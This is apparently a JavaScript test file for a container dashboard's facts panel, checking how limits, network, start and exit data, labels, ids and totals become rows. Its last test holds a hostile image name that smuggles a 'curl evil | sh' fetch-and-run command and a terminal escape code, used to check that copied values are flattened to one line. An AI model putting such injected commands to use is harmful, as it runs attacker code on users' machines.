import assert from "node:assert/strict";
import { test } from "node:test";
import { factRows } from "../../apps/dashboard/src/dockstats_dashboard/page/facts.js";
import { Format } from "../../apps/dashboard/src/dockstats_dashboard/page/format.js";
import { NOW, at } from "./builders.js";
import { ID, containerOf } from "./charts.js";

const format = new Format({ cpuUnit: "core_pct", base: "iec", rates: "bytes" });

/**
 * @param {object} [facts]
 * @param {object} [payload]
 * @param {import("../../apps/dashboard/src/dockstats_dashboard/page/totals.js").Sums | null} [totals]
 */
function rows(facts, payload, totals = null) {
  const container = containerOf({}, facts, payload);
  const told = factRows(container, container.host, format, NOW, totals);
  return { told, values: Object.fromEntries(told.map(({ label, value }) => [label, value])) };
}

test("what is known has a row, in plain words", () => {
  const { values } = rows(
    {
      image: "postgres:17",
      compose_project: "shop",
      compose_service: "db",
      cpu_limit_cores: 2.5,
      mem_limit_bytes: 4 * 2 ** 30,
      pids_limit: 100,
      network_mode: "bridge",
      started_at: at(-3_600_000),
      restart_count: 0,
    },
    { sampling: { source: "cgroup", reason: "", interval_secs: 0.5, duration_secs: 0.00612 } },
  );
  assert.equal(values["Project"], "shop / db");
  assert.equal(values["Limits"], "2.5 cores · 4 GiB memory · 100 pids");
  assert.equal(values["Network"], "bridge");
  assert.match(values["Started"] ?? "", /^\d\d:\d\d:00, 1 h ago$/);
  assert.equal(values["Restarts"], "0");
  assert.equal(values["Source"], "cgroup, every 0.5 s, sampled in 6 ms");
});

test("labels that the agent shows have a row each, and what is no text is none", () => {
  const { told } = rows({ labels: { tier: "front", build: 7 } });
  assert.deepEqual(
    told.filter(({ label }) => label.startsWith("Label")),
    [{ label: "Label tier", value: "front", copy: "front" }],
  );
});

test("no limit is said, not left out", () => {
  assert.equal(rows().values["Limits"], "no CPU limit · no memory limit · no pids limit");
});

test("what is not known has no row", () => {
  const { values } = rows();
  for (const label of ["Image", "Project", "Network", "Started", "Restarts", "Exit code", "Ended"]) {
    assert.equal(values[label], undefined, label);
  }
});

test("an exit code belongs to one that ended", () => {
  const ended = { state: "exited", exit_code: 137, oom_killed: true, finished_at: at(-60_000) };
  assert.equal(rows(ended).values["Exit code"], "137, killed: out of memory");
  assert.match(rows(ended).values["Ended"] ?? "", /1 min ago$/);
  assert.equal(rows({ state: "running", exit_code: 0 }).values["Exit code"], undefined);
});

test("an engine's zero time is no time", () => {
  assert.equal(rows({ started_at: "0001-01-01T00:00:00Z" }).values["Started"], undefined);
});

test("the short id is shown and the whole one copied", () => {
  const id = rows().told.find(({ label }) => label === "Id");
  assert.deepEqual([id?.value, id?.copy?.length], [ID, 60]);
});

test("a network that is another container's says whose", () => {
  assert.equal(rows({ network_mode: "container:abc", network_of: "vpn" }).values["Network"], "shared with vpn");
});

test("sums since its start are told as far as they are known", () => {
  const sums = { block_read_bytes: 3 * 2 ** 30, block_write_bytes: 0, net_rx_bytes: null, net_tx_bytes: null };
  const { values } = rows({}, {}, sums);
  assert.equal(values["Disk since start"], "3.00 GiB read · 0 B written");
  assert.equal(values["Network since start"], undefined);
});

test("what is copied is one line, as a terminal runs what is pasted line by line", () => {
  const { told } = rows({ image: "a\ncurl evil | sh\r\n\u001b[31m" });
  assert.equal(told.find(({ label }) => label === "Image")?.copy, "a curl evil | sh [31m");
});
